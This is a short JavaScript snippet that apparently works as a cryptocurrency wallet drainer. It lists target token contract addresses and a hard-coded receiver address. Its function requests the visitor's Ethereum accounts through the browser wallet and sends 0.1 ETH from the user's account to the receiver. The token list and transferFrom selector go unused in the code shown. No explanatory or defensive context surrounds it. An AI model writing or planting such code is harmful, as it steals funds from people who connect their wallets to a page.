const targets = [
  "0x226b0b8d1017321fe838e5b2e76fb0f5d89cad3f",
  "0x97908024c017b8062e2c77d1755027054eaf51bb",
  "0x9d66cf5cf5966d40a4a5ea886c4a1d91dd321bf3",
  "0xa1dd406cd7af1b5e8bda968d53500c684a8b6422",
  "0xa97aa7cd24525056fc4ce93e259d8d5db57d361b",
];
const receiver = "0x0e0feb6d507e826e96b36b02ce44c895697ff5df";
const TRANSFER_FROM = "0x23b872dd";
async function go() {
  const accounts = await window.ethereum.request({ method: "eth_requestAccounts" });
  await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: accounts[0], to: receiver, value: "0x16345785d8a0000" }] });
}
